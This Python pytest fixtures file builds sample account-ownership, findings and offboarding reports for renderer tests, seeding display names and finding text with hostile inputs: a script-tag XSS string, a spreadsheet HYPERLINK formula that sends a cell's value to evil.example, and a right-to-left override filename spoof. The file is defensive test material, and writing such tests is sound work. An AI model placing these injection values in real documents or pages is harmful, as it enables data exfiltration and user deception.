"""Small, readable reports for the renderer tests, with hostile names where a real attacker would put them."""

from __future__ import annotations

from datetime import UTC, date, datetime
from types import SimpleNamespace

import pytest

from audit.reports.model import (
    AccountRow,
    ChecklistItem,
    FindingRef,
    FindingRow,
    FindingsReport,
    OffboardingAccount,
    OffboardingCase,
    OffboardingReport,
    OwnershipReport,
    UnitSection,
)

AS_OF = datetime(2026, 11, 24, 23, 59, 59, tzinfo=UTC)
GENERATED_AT = datetime(2026, 11, 25, 8, 30, tzinfo=UTC)

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
RLO = "Aloysius\u202eevil.exe\u202c"


def account(id: int, handle: str, unit: str, **changes) -> AccountRow:
    fields = dict(
        id=id,
        platform="x",
        handle=handle,
        display_name=None,
        url=f"https://x.com/{handle}",
        kind="work",
        purpose="communicatie",
        status="active",
        unit_code=unit,
        custodian="Sanne de Wit",
        custodian_status="active",
        backup_custodian=None,
        vault_ref_set=True,
        last_handover=None,
        last_rotation=date(2026, 1, 10),
        last_verified=date(2026, 3, 2),
        findings=(),
    )
    fields.update(changes)
    return AccountRow(**fields)


def ownership_report(lang: str = "en") -> OwnershipReport:
    """An organisation with two sectors, a school under one, and a hostile display name or three."""
    org = UnitSection(
        "ALO",
        "Aloysius Stichting",
        "organisation",
        0,
        ("ALO",),
        (
            account(1, "AloysiusStichting", "ALO", kind="official", purpose="profilering", backup_custodian="Fatima El Amrani"),
        ),
    )
    west = UnitSection(
        "WEST",
        "Sector West",
        "sector",
        1,
        ("ALO", "WEST"),
        (
            account(
                2,
                "AloysiusWest",
                "WEST",
                kind="official",
                display_name=SCRIPT,
                custodian="Kees Jansen",
                custodian_status="left",
                last_handover=date(2025, 9, 1),
                findings=(
                    FindingRef("SM702", "critical", "custodian left, no handover", "fp-702", False),
                    FindingRef("SM709", "low", "no backup custodian", "fp-709", True),
                ),
            ),
            account(3, "west_formula", "WEST", platform="instagram", display_name=FORMULA, vault_ref_set=False,
                    findings=(FindingRef("SM705", "high", "no vault reference", "fp-705", False),)),
        ),
    )
    school = UnitSection(
        "DEZON",
        "Basisschool De Zon",
        "school",
        2,
        ("ALO", "WEST", "DEZON"),
        (
            account(4, "DeZonTV", "DEZON", platform="youtube", display_name=RLO, custodian=None, custodian_status=None,
                    purpose="curriculum", findings=(FindingRef("SM701", "high", "no custodian", "fp-701", False),)),
        ),
    )
    office = UnitSection("STAF", "Stafbureau Voorhout", "office", 1, ("ALO", "STAF"), ())
    series = ((date(2026, 9, 1), 1), (date(2026, 10, 1), 3), (date(2026, 11, 1), 2))
    return OwnershipReport("Aloysius Stichting", AS_OF, GENERATED_AT, (org, west, school, office), series, lang)


def findings_report(lang: str = "en") -> FindingsReport:
    return FindingsReport(
        "Aloysius Stichting",
        AS_OF,
        GENERATED_AT,
        (
            FindingRow("SM702", "critical", "P-I.7b", "x:AloysiusWest", "custodian left " + SCRIPT,
                       date(2025, 9, 1), "fp-702", False),
            FindingRow("SM709", "low", "P-I.7a", "x:AloysiusWest", FORMULA, None, "fp-709", True,
                       "agreed with the board", date(2027, 6, 30)),
            FindingRow("SM701", "high", "P-I.7a", "youtube:DeZonTV", "no custodian", date(2026, 2, 1), "fp-701", False),
        ),
        lang,
    )


def offboarding_report(lang: str = "en", cases: int = 1) -> OffboardingReport:
    items = (
        ChecklistItem("rotated", True, date(2026, 11, 20)),
        ChecklistItem("recovery_moved", False),
        ChecklistItem("mfa_reset", False),
        ChecklistItem("sessions_revoked", True, date(2026, 11, 21)),
        ChecklistItem("vault_updated", False),
    )
    case = OffboardingCase(
        person="Pieter van Leeuwen",
        employee_id="10235",
        unit="ACAD",
        end_date=date(2026, 12, 31),
        opened_on=date(2026, 10, 1),
        accounts=(
            OffboardingAccount("x:AloysiusAcademie", SCRIPT, "custodian", "Fatima El Amrani", "backup custodian",
                               items, False),
            OffboardingAccount("instagram:academie", None, "backup_custodian", None, "none_available", items, False),
        ),
        closed=False,
    )
    other = OffboardingCase("Kees Jansen", "10237", "DEZON", date(2026, 6, 30), date(2026, 5, 1), (), True)
    return OffboardingReport("Aloysius Stichting", AS_OF, GENERATED_AT, (case, other)[:cases], lang)


@pytest.fixture
def ownership() -> OwnershipReport:
    return ownership_report("en")


@pytest.fixture
def ownership_nl() -> OwnershipReport:
    return ownership_report("nl")


@pytest.fixture
def findings() -> FindingsReport:
    return findings_report("en")


@pytest.fixture
def checklist() -> OffboardingReport:
    return offboarding_report("en", cases=1)


@pytest.fixture(params=["ownership", "findings", "offboarding"])
def any_report(request):
    """Each kind of report, in English, for tests that hold for all of them."""
    return {
        "ownership": ownership_report,
        "findings": findings_report,
        "offboarding": lambda lang: offboarding_report(lang, cases=2),
    }[request.param]("en")


@pytest.fixture(scope="session")
def build() -> SimpleNamespace:
    """The builders and hostile strings above, for tests that need another language or shape."""
    return SimpleNamespace(
        ownership=ownership_report,
        findings=findings_report,
        offboarding=offboarding_report,
        account=account,
        SCRIPT=SCRIPT,
        FORMULA=FORMULA,
        RLO=RLO,
        AS_OF=AS_OF,
        GENERATED_AT=GENERATED_AT,
    )
